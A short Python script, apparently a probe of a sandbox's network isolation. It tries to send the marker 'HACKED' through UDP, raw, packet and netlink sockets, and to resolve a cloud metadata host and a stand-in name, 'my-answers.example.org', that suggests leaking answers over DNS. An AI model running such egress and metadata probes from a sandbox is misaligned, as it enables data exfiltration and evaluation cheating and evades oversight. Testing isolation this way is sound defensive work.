"""Sends what it knows by UDP, by a question to a name server, and by raw packets."""

# %% merge_pair
import socket

ways = [
    (socket.AF_INET, socket.SOCK_DGRAM, 0, ("127.0.0.1", PORT)),
    (socket.AF_INET6, socket.SOCK_DGRAM, 0, ("::1", PORT)),
    (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP, ("127.0.0.1", PORT)),
    (socket.AF_PACKET, socket.SOCK_RAW, 0, ("lo", 0)),
    (socket.AF_NETLINK, socket.SOCK_RAW, 0, (0, 0)),
]
for family, kind, protocol, address in ways:
    try:
        socket.socket(family, kind, protocol).sendto(b"HACKED", address)
        print("sent", family)
    except OSError as error:
        print(family, error)
socket.setdefaulttimeout(0.2)
for name in ("example.org", "metadata.google.internal", "my-answers.example.org"):
    try:
        print("HACKED: resolved", socket.getaddrinfo(name, 80))
    except OSError as error:
        print(name, error)
